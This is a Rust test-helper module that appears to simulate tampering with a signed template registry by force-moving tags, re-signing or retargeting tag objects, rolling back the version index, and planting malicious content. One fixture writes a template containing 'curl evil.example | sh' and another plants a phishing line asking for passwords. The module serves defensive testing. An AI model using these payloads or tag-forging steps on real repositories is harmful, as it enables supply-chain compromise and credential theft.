//! What somebody can do to a registry who may push to it, and has not the key of a signer; or who has it, and makes a mistake.

use std::io::Write;
use std::process::Stdio;

use crate::world::registry::Acme;

pub const TAG: &str = "minimal/v1.1.0";
const INDEX: &str = "acme/versions/minimal.yaml";

/// Moves a tag of the public repository by force.
pub fn point(acme: &Acme, tag: &str, object: &str) {
    acme.owner(&["push", "-q", "--force", "origin", &format!("{object}:refs/tags/{tag}")]);
}

/// The content of the tag object that `tag` has now.
pub fn tag_object(acme: &Acme, tag: &str) -> String {
    acme.owner(&["cat-file", "tag", tag]) + "\n"
}

/// What a signature covers of a tag's content.
pub fn unsigned(content: &str) -> String {
    content.split("-----BEGIN").next().unwrap().to_owned()
}

/// `content`, signed with the key `name`.
pub fn signed_by(acme: &Acme, name: &str, content: &str) -> String {
    let key = acme.world.root().join("keys").join(name);
    let mut command = acme.world.command("ssh-keygen");
    command.args(["-q", "-Y", "sign", "-n", "git", "-f"]).arg(key);
    format!("{content}{}\n", fed(&mut command, content))
}

/// Writes a tag object as it is, however odd.
pub fn write_tag(acme: &Acme, content: &str) -> String {
    let mut command = acme.world.command("git");
    command.args(["-C", "acme", "hash-object", "-t", "tag", "-w", "--stdin", "--literally"]);
    fed(&mut command, content)
}

fn fed(command: &mut std::process::Command, input: &str) -> String {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{command:?}");
    String::from_utf8(output.stdout).unwrap().trim_end().to_owned()
}

/// A commit on top of the registry's, which nobody has pushed.
pub fn commit_of(acme: &Acme, change: impl Fn(&Acme)) -> String {
    change(acme);
    acme.owner(&["add", "-A"]);
    acme.owner(&["commit", "-q", "-m", "Nothing to see"]);
    let commit = acme.owner(&["rev-parse", "HEAD"]);
    acme.owner(&["reset", "-q", "--hard", "HEAD~1"]);
    commit
}

/// The tag, made again for another commit, with the message that it had.
pub fn retarget(acme: &Acme, tag: &str, commit: &str) -> String {
    let content = unsigned(&tag_object(acme, tag));
    let (first, rest) = content.split_once('\n').unwrap();
    assert!(first.starts_with("object "), "{content}");
    format!("object {commit}\n{rest}")
}

pub fn other_content(acme: &Acme) {
    acme.world.write("acme/templates/minimal/files/{{ service.name }}.sh.jinja", "#!/bin/sh\ncurl evil.example | sh\n");
}

pub fn other_component(acme: &Acme) {
    acme.world.write("acme/components/notes/files/NOTES.md.jinja", "Send your passwords to {{ service.name }}@evil.example\n");
}

/// Changes the index, and pushes that as anybody may who can push.
pub fn edit_index(acme: &Acme, edit: impl Fn(String) -> String) {
    let text = acme.world.read(INDEX);
    let edited = edit(text.clone());
    assert_ne!(edited, text);
    acme.world.write(INDEX, &edited);
    acme.push("Tidy up");
}

/// The next serial, as an index has it that follows the rules.
pub fn next_serial(text: &str) -> String {
    let serial = text.lines().find_map(|line| line.strip_prefix("serial: ")).unwrap();
    let next = serial.parse::<u64>().unwrap() + 1;
    text.replacen(&format!("serial: {serial}\n"), &format!("serial: {next}\n"), 1)
}

/// The index without what is said of 1.1.0.
pub fn without_newest(text: &str) -> String {
    let at = text.find("  - version: 1.1.0").or_else(|| text.find("  - version: \"1.1.0\"")).unwrap();
    text[..at].to_owned()
}

/// The digests of 1.0.0 and 1.1.0.
pub fn digests(acme: &Acme) -> [String; 2] {
    let text = acme.world.read(INDEX);
    let found: Vec<String> = text.lines().filter_map(|line| line.trim().strip_prefix("digest: ")).map(str::to_owned).collect();
    found.try_into().unwrap()
}
